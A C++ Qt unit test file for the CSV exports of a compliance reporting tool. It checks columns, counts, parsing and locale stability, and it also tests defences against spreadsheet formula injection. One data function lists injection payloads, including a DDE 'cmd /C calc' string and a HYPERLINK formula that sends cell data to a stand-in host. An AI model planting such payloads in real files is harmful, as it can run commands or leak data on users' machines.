// SPDX-License-Identifier: GPL-3.0-or-later
#include "reports/csv.h"
#include "reports/csvreader.h"
#include "reports/csvrow.h"
#include "reports/samplereport.h"

#include <QLocale>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTest>

#include <algorithm>
#include <map>

using namespace bulkhead;
using namespace bulkhead::reports;
using namespace Qt::StringLiterals;
using isolation::ControlResult;
using isolation::Verdict;

namespace {

using Write = bool (*)(const Report &, const ByteSink &);

std::string bytesOf(const Report &report, Write write)
{
    std::string bytes;
    if (!write(report, [&bytes](std::string_view piece) { bytes.append(piece); return true; }))
        return {};
    return bytes;
}

//! A table read back, its cells by the names of their columns.
class Read
{
public:
    Read(const Report &report, Write write)
    {
        const auto rows = readCsv(bytesOf(report, write));
        if (!rows || rows->empty())
            return;
        m_rows = *rows;
        for (std::size_t i = 0; i < m_rows.front().size(); ++i)
            m_columns.emplace(m_rows.front()[i].text, i);
        m_rows.erase(m_rows.begin());
        m_isGood = true;
    }
    [[nodiscard]] bool isGood() const { return m_isGood; }
    [[nodiscard]] std::size_t size() const { return m_rows.size(); }
    [[nodiscard]] const CsvCell &cell(std::size_t row, const std::string &column) const { return m_rows[row][m_columns.at(column)]; }
    [[nodiscard]] std::string text(std::size_t row, const std::string &column) const { return cell(row, column).text; }
    [[nodiscard]] std::int64_t number(std::size_t row, const std::string &column) const
    {
        const CsvCell &one = cell(row, column);
        return one.isQuoted || one.text.empty() ? -1 : std::stoll(one.text);
    }

private:
    std::vector<CsvRow> m_rows;
    std::map<std::string, std::size_t> m_columns;
    bool m_isGood = false;
};

//! The cells as they stand in the file, nothing taken back.
QStringList rawCells(const std::string &bytes)
{
    QStringList cells{QString()};
    bool isQuoted = false;
    const QString text = QString::fromStdString(bytes);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (c == u'"' && isQuoted && i + 1 < text.size() && text[i + 1] == u'"')
            cells.last() += text[i++];
        else if (c == u'"')
            isQuoted = !isQuoted;
        else if (!isQuoted && (c == u',' || c == u'\n'))
            cells.append(QString());
        else if (isQuoted || c != u'\r')
            cells.last() += c;
    }
    return cells;
}

//! Whether a spreadsheet would run a cell, or what stands behind another separator in it.
bool isFormula(const QString &cell)
{
    static const QRegularExpression number(u"^-\\d+(\\.\\d+)?$"_s);
    static const QRegularExpression bad(u"(^|[;\\t\\n\\r])[ \"\\x{A0}]*[=+\\-@\\x{FF1D}\\x{FF0B}\\x{FF0D}\\x{FF20}]|^[\\t\\n\\r\\x{0}]"_s);
    return bad.match(cell).hasMatch() && !number.match(cell).hasMatch();
}

std::string randomText(QRandomGenerator &dice)
{
    static const QString letters = u"aZ9 '\"=+-@.;,|\t\r\n\u00A0\uFEFF\uFF1De\u00E4\U0001F600"_s + QChar(0);
    QString text;
    for (int i = int(dice.bounded(7)); i > 0; --i)
        text += letters[dice.bounded(letters.size())];
    return text.toStdString();
}

} // namespace

//! The tables of a report: harmless, complete, exact, and read back cell by cell.
class TestReportCsv : public QObject
{
    Q_OBJECT
private slots:
    void tables_ofTheSample_areWellFormed();
    void columns_ofFindings_areThoseOfTheReference();
    void findings_haveOneRow_perControlAndUnitThatIsNoPass();
    void findings_numbers_equalTheCheck();
    void findings_thatAreAccepted_stayFailsWithTheirException();
    void coverage_figures_equalTheCheck();
    void requirements_equal_theReport();
    void promotions_haveOneRow_each();
    void records_haveOneRow_each();
    void payloads_inEveryText_runNothing_data();
    void payloads_inEveryText_runNothing();
    void import_ofRandomCells_givesTheVeryCells();
    void import_ofOthersFiles_isRead_data();
    void import_ofOthersFiles_isRead();
    void import_ofBrokenFiles_namesTheLine_data();
    void import_ofBrokenFiles_namesTheLine();
    void sameReport_inOtherLocale_sameBytes();
    void sink_thatTakesNoMore_stopsTheWriter();
};

void TestReportCsv::tables_ofTheSample_areWellFormed()
{
    const auto sample = test::sampleReport();
    for (const CsvTable &table : csvTables()) {
        const std::string bytes = bytesOf(sample->report, table.write);
        const auto rows = readCsv(bytes);
        QVERIFY2(rows.has_value(), rows ? "" : qPrintable(rows.error().toText()));
        QVERIFY2(rows->size() > 1, table.file.data());
        for (const CsvCell &title : rows->front())
            QVERIFY2(!title.text.empty() && !title.isQuoted, table.file.data());
        QVERIFY(bytes.ends_with("\r\n"));
        QVERIFY(QString::fromStdString(bytes).toStdString() == bytes); // valid UTF-8
        for (std::size_t i = 1; i < rows->size(); ++i)
            QCOMPARE((*rows)[i].front().text, sample->report.id);
    }
}

void TestReportCsv::columns_ofFindings_areThoseOfTheReference()
{
    static constexpr std::string_view wanted
        = "report_id, run_id, generated_at_utc, period_start, period_end, environment_pair, sandbox_env, production_env, layer, control_id, control_title, severity, weight, unit_type, unit_id, "
          "unit_name, gateway_product, status, reason_code, status_detail, assurance_level, method, first_seen, last_seen, evidence_collected_at, evidence_expires_at, evidence_source, "
          "evidence_query, evidence_sha256, population_total, population_examined, sample_method, waiver_id, waiver_status, waiver_owner, waiver_approver, waiver_reason, waiver_expires_at, "
          "attestation_id, attestor, attestation_valid_until, remediation, owner, due_date, refs_pci, refs_iso27001, refs_soc2, refs_nist80053, refs_ssdf, refs_hipaa, refs_gdpr, refs_dora, "
          "refs_psd2_ob, refs_owasp_api, refs_cis, audit_seq, audit_entry_hash";
    std::string begin;
    std::size_t count = 0;
    for (const std::string_view column : findingColumns()) {
        begin += (begin.empty() ? "" : ", ") + std::string(column);
        if (++count == 57)
            break;
    }
    QCOMPARE(begin, std::string(wanted));
    QSet<QString> all;
    for (const std::string_view column : findingColumns())
        all.insert(QString::fromStdString(std::string(column)));
    QCOMPARE(all.size(), qsizetype(findingColumns().size()));
}

void TestReportCsv::findings_haveOneRow_perControlAndUnitThatIsNoPass()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writeCsv);
    QVERIFY(table.isGood());
    std::size_t row = 0;
    for (const isolation::PairReport &pair : sample->check.pairs) {
        for (const ControlResult &control : pair.result.controls) {
            QCOMPARE(table.text(row, "control_id"), control.control);
            QCOMPARE(table.text(row, "unit_id"), std::string());
            QCOMPARE(table.text(row, "status"), std::string(isolation::toWire(control.verdict)));
            ++row;
            for (const isolation::UnitResult &unit : control.units) {
                QCOMPARE(table.text(row, "environment_pair"), isolation::pairName(pair.result).toStdString());
                QCOMPARE(table.text(row, "control_id"), control.control);
                QCOMPARE(table.text(row, "unit_id"), unit.unit);
                QCOMPARE(table.text(row, "status"), std::string(isolation::toWire(unit.verdict)));
                QCOMPARE(table.text(row, "status_detail"), isolation::sentence(unit));
                QCOMPARE(table.text(row, "fingerprint"), isolation::findingFingerprint(control.control, unit.unit));
                ++row;
            }
        }
    }
    QCOMPARE(table.size(), row);
}

void TestReportCsv::findings_numbers_equalTheCheck()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writeCsv);
    QVERIFY(table.isGood());
    std::size_t row = 0;
    for (const isolation::PairReport &pair : sample->check.pairs) {
        for (const ControlResult &control : pair.result.controls) {
            while (!table.text(row, "unit_id").empty())
                ++row;
            std::int64_t all = 0;
            for (int i = 0; i < isolation::verdictCount; ++i) {
                const auto verdict = Verdict(i);
                all += control.counts[verdict];
                QCOMPARE(table.number(row, "count_" + std::string(isolation::toWire(verdict))), control.counts[verdict]);
            }
            QCOMPARE(table.number(row, "population_total"), all);
            QCOMPARE(table.number(row, "population_examined"), all - control.counts[Verdict::Unknown]);
            QCOMPARE(table.number(row, "run_id"), std::int64_t(sample->check.snapshot));
            const isolation::Control *known = sample->check.catalogue->find(QString::fromStdString(control.control));
            QCOMPARE(table.number(row, "weight"), std::int64_t(isolation::weightOf(known->severity)));
            QCOMPARE(QString::fromStdString(table.text(row, "refs_iso27001")), known->references.value(u"iso-27001-2022"_s).join(u'|'));
            QCOMPARE(table.text(row, "refs_framework").empty(), !known->references.contains(u"iso-27001-2022"_s));
            ++row;
        }
    }
}

void TestReportCsv::findings_thatAreAccepted_stayFailsWithTheirException()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writeCsv);
    QVERIFY(table.isGood());
    std::int64_t accepted = 0, counted = 0;
    for (std::size_t row = 0; row < table.size(); ++row) {
        if (table.text(row, "unit_id").empty()) {
            counted += table.number(row, "count_accepted");
        } else if (!table.text(row, "waiver_id").empty()) {
            ++accepted;
            QCOMPARE(table.text(row, "status"), std::string("fail"));
            QCOMPARE(table.text(row, "waiver_status"), std::string("active"));
            QCOMPARE(table.text(row, "waiver_approver"), std::string("leonor|bo"));
            QCOMPARE(table.text(row, "environment_pair"), std::string("sandbox/production")); // not on the other pair
        }
    }
    QVERIFY(accepted > 0);
    QCOMPARE(counted, accepted);
}

void TestReportCsv::coverage_figures_equalTheCheck()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writeCoverageCsv);
    QVERIFY(table.isGood());
    QCOMPARE(table.size(), sample->check.pairs.size() * (isolation::layerCount + 1));
    const auto figure = [&](std::size_t row, const char *name) { return table.text(row, name).empty() ? std::optional<int>() : std::optional<int>(table.number(row, name)); };
    std::size_t row = 0;
    for (const isolation::PairReport &pair : sample->check.pairs) {
        std::int64_t controls = 0, fails = 0;
        for (int layer = 0; layer <= isolation::layerCount; ++layer, ++row) {
            const bool isPair = layer == isolation::layerCount;
            const isolation::Figures figures = isPair ? pair.result.score.figures : pair.result.layers[std::size_t(layer)].figures;
            QCOMPARE(figure(row, "proven"), figures.proven);
            QCOMPARE(figure(row, "possible"), figures.possible);
            QCOMPARE(figure(row, "coverage"), figures.coverage);
            QCOMPARE(figure(row, "machine_proven"), figures.machineProven);
            if (isPair) {
                QCOMPARE(table.text(row, "status"), std::string(isolation::toWire(pair.result.score.status)));
                QCOMPARE(table.number(row, "controls"), controls);
                QCOMPARE(table.number(row, "count_fail"), fails);
                QCOMPARE(controls, std::int64_t(pair.result.controls.size()));
            }
            controls += table.number(row, "controls");
            fails += table.number(row, "count_fail");
        }
    }
}

void TestReportCsv::requirements_equal_theReport()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writeRequirementsCsv);
    QVERIFY(table.isGood());
    std::size_t row = 0;
    for (const auto &results : sample->report.requirements) {
        for (const RequirementResult &one : results) {
            QCOMPARE(QString::fromStdString(table.text(row, "reference")), one.requirement->reference);
            QCOMPARE(table.text(row, "state"), std::string(toWire(one.state)));
            QCOMPARE(table.number(row, "failing"), one.failing);
            QCOMPARE(table.number(row, "accepted"), one.accepted);
            ++row;
        }
    }
    QCOMPARE(table.size(), row);
}

void TestReportCsv::promotions_haveOneRow_each()
{
    const auto sample = test::sampleReport();
    const Read table(sample->report, writePromotionsCsv);
    QVERIFY(table.isGood());
    QCOMPARE(table.size(), sample->report.promotions.size());
    QSet<QString> states;
    std::vector<std::size_t> sampled;
    for (std::size_t row = 0; row < table.size(); ++row) {
        const promotion::Request &one = sample->report.promotions[row];
        QCOMPARE(table.text(row, "promotion_id"), one.id);
        QCOMPARE(table.text(row, "state"), std::string(promotion::toWire(one.state)));
        QCOMPARE(table.text(row, "broken_glass"), std::string(one.isBroken ? "yes" : "no"));
        QCOMPARE(table.number(row, "audit_seq"), std::int64_t(one.seq));
        states.insert(QString::fromStdString(table.text(row, "state")));
        if (table.text(row, "sampled") == "yes")
            sampled.push_back(row);
    }
    QCOMPARE(states.size(), promotion::stateCount);
    QCOMPARE(sampled, sample->report.sample->indexes);
}

void TestReportCsv::records_haveOneRow_each()
{
    const auto sample = test::sampleReport();
    const Report &report = sample->report;
    const Read exceptions(report, writeExceptionsCsv), attestations(report, writeAttestationsCsv), evidences(report, writeEvidenceCsv), changes(report, writeChangesCsv), gaps(report, writeGapsCsv);
    QCOMPARE(exceptions.size(), report.exceptions.size());
    for (std::size_t row = 0; row < exceptions.size(); ++row) {
        QCOMPARE(exceptions.text(row, "state"), std::string(evidence::toWire(report.exceptions[row].exception.state)));
        QCOMPARE(exceptions.number(row, "age_days"), std::int64_t(report.exceptions[row].ageDays));
    }
    QCOMPARE(attestations.size(), report.attestations.size());
    QCOMPARE(attestations.text(0, "in_force"), std::string("yes"));
    QCOMPARE(QString::fromStdString(attestations.text(1, "why_not")), report.attestations[1].whyNot);
    QCOMPARE(evidences.size(), report.evidence.size());
    QCOMPARE(evidences.number(0, "expected"), 12);
    QVERIFY(evidences.text(2, "expected").empty()); // the source does not tell
    QCOMPARE(changes.size(), report.changes.size());
    QCOMPARE(gaps.size(), report.gaps.size());
    QVERIFY(gaps.text(1, "facts_from").empty());
}

void TestReportCsv::payloads_inEveryText_runNothing_data()
{
    QTest::addColumn<QString>("payload");
    for (const QString &sign : {u"="_s, u"+"_s, u"-"_s, u"@"_s, u"\t"_s, u"\r"_s, u"\n"_s, QString(QChar(0)), u"\uFF1D"_s, u"\uFF0B"_s, u"\uFF0D"_s, u"\uFF20"_s}) {
        for (const QString &rest : {u"cmd|' /C calc'!A0"_s, u"HYPERLINK(\"http://evil.test/?\"&A1;\"x\")"_s, u"1+1;=2+2"_s, u"SUM(A1)\n=1"_s, u"1\t@SUM(1)"_s, u"\",=1,\""_s, u"1\";\"=2"_s})
            QTest::addRow("sign U+%04X, %s", sign.front().unicode(), qPrintable(rest.left(6).simplified())) << sign + rest;
    }
}

void TestReportCsv::payloads_inEveryText_runNothing()
{
    QFETCH(QString, payload);
    auto sample = test::sampleReport(u"iso-27001-2022"_s, payload.toStdString());
    for (ExceptionRow &row : sample->report.exceptions)
        row.exception.reason = payload;
    for (promotion::Request &request : sample->report.promotions)
        request.apiName = request.reason = payload;
    for (UnrequestedChange &change : sample->report.changes)
        change.nativeId = change.api = payload.toStdString();
    for (AttestationRow &row : sample->report.attestations)
        row.attestation.statement = payload.toStdString();
    for (EvidenceRow &row : sample->report.evidence)
        row.evidence.source = row.evidence.query = payload.toStdString();
    for (isolation::DeploymentFacts &deployment : sample->facts.deployments)
        deployment.name = payload.toStdString();
    for (ControlResult &control : sample->check.pairs.front().result.controls) {
        for (isolation::UnitResult &unit : control.units) {
            unit.production.name = unit.sandbox.name = payload.toStdString();
            unit.production.value = payload.toStdString();
        }
    }
    for (const CsvTable &table : csvTables()) {
        const std::string bytes = bytesOf(sample->report, table.write);
        for (const QString &cell : rawCells(bytes))
            QVERIFY2(!isFormula(cell), qPrintable(cell));
        QVERIFY(readCsv(bytes).has_value());
    }
    const Read promotions(sample->report, writePromotionsCsv);
    QCOMPARE(promotions.text(0, "reason"), payload.toStdString());
}

void TestReportCsv::import_ofRandomCells_givesTheVeryCells()
{
    QRandomGenerator dice(20261130);
    const int cases = qEnvironmentVariableIsSet("BULKHEAD_FULL") ? 50'000 : 3'000;
    for (int i = 0; i < cases; ++i) {
        const std::size_t width = dice.bounded(6) + 1;
        std::vector<CsvRow> wanted;
        std::string bytes;
        const ByteSink sink = [&bytes](std::string_view piece) { bytes.append(piece); return true; };
        CsvRows rows(sink);
        for (int row = int(dice.bounded(5)) + 1; row > 0; --row) {
            CsvRow cells;
            for (std::size_t column = 0; column < width; ++column) {
                if (dice.bounded(4) == 0) {
                    const std::int64_t number = std::int64_t(dice.generate64());
                    rows.number(number);
                    cells.push_back({std::to_string(number), false});
                } else {
                    const std::string text = randomText(dice);
                    rows.text(text);
                    cells.push_back({text, !text.empty()});
                }
            }
            rows.end();
            wanted.push_back(std::move(cells));
        }
        QVERIFY(rows.finish());
        const auto read = readCsv(bytes);
        QVERIFY2(read.has_value(), qPrintable(read ? QString() : read.error().toText()));
        QVERIFY(*read == wanted);
    }
}

void TestReportCsv::import_ofOthersFiles_isRead_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QStringList>("cells");
    QTest::newRow("no quotes") << QByteArray("a,b\r\n1,2\r\n") << QStringList{u"a"_s, u"b"_s, u"1"_s, u"2"_s};
    QTest::newRow("line feeds") << QByteArray("a,b\n1,2\n") << QStringList{u"a"_s, u"b"_s, u"1"_s, u"2"_s};
    QTest::newRow("no end of the last row") << QByteArray("a,b\r\n1,2") << QStringList{u"a"_s, u"b"_s, u"1"_s, u"2"_s};
    QTest::newRow("byte order mark") << QByteArray("\xef\xbb\xbf\"a\",b\r\n") << QStringList{u"a"_s, u"b"_s};
    QTest::newRow("line end in quotes") << QByteArray("\"a\r\nb\",\"c,\"\"d\"\"\"\r\n") << QStringList{u"a\r\nb"_s, u"c,\"d\""_s};
    QTest::newRow("empty cells") << QByteArray(",\r\n,\"\"\r\n") << QStringList{u""_s, u""_s, u""_s, u""_s};
    QTest::newRow("minus a half") << QByteArray("-1.5,\"-1.5\"\r\n") << QStringList{u"-1.5"_s, u"-1.5"_s};
    QTest::newRow("nothing") << QByteArray() << QStringList{};
}

void TestReportCsv::import_ofOthersFiles_isRead()
{
    QFETCH(QByteArray, bytes);
    const auto rows = readCsv(bytes.toStdString());
    QVERIFY(rows.has_value());
    QStringList cells;
    for (const CsvRow &row : *rows) {
        for (const CsvCell &cell : row)
            cells.append(QString::fromStdString(cell.text));
    }
    QTEST(cells, "cells");
}

void TestReportCsv::import_ofBrokenFiles_namesTheLine_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("place");
    QTest::newRow("open quote") << QByteArray("a,b\r\n\"c,d\r\n") << u"line 2"_s;
    QTest::newRow("text behind a quote") << QByteArray("a,b\r\n\"c\"d,e\r\n") << u"line 2"_s;
    QTest::newRow("quote in bare text") << QByteArray("a,b\r\nc\"d\",e\r\n") << u"line 2"_s;
    QTest::newRow("too few cells") << QByteArray("a,b\r\n1,2\r\n3\r\n") << u"line 3"_s;
    QTest::newRow("too many cells") << QByteArray("\"a\r\nx\",b\r\n1,2,3\r\n") << u"line 3"_s;
    QTest::newRow("return alone") << QByteArray("a,b\rc,d\r\n") << u"line 1"_s;
}

void TestReportCsv::import_ofBrokenFiles_namesTheLine()
{
    QFETCH(QByteArray, bytes);
    const auto rows = readCsv(bytes.toStdString());
    QVERIFY(!rows.has_value());
    QCOMPARE(rows.error().kind, Error::Kind::BadFile);
    QTEST(rows.error().place, "place");
}

void TestReportCsv::sameReport_inOtherLocale_sameBytes()
{
    const auto sample = test::sampleReport();
    const std::string before = bytesOf(sample->report, writeCsv);
    const QLocale kept;
    QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
    const QByteArray zone = qgetenv("TZ");
    qputenv("TZ", "Pacific/Kiritimati");
    tzset();
    const auto again = test::sampleReport();
    const std::string after = bytesOf(again->report, writeCsv);
    qputenv("TZ", zone);
    tzset();
    QLocale::setDefault(kept);
    QVERIFY(before == after);
}

void TestReportCsv::sink_thatTakesNoMore_stopsTheWriter()
{
    const auto large = test::largeReport({5'000, 10, 10});
    int pieces = 0;
    QVERIFY(!writeCsv(large->report, [&pieces](std::string_view) { return ++pieces < 2; }));
    QCOMPARE(pieces, 2);
}

QTEST_GUILESS_MAIN(TestReportCsv)
#include "tst_reportcsv.moc"
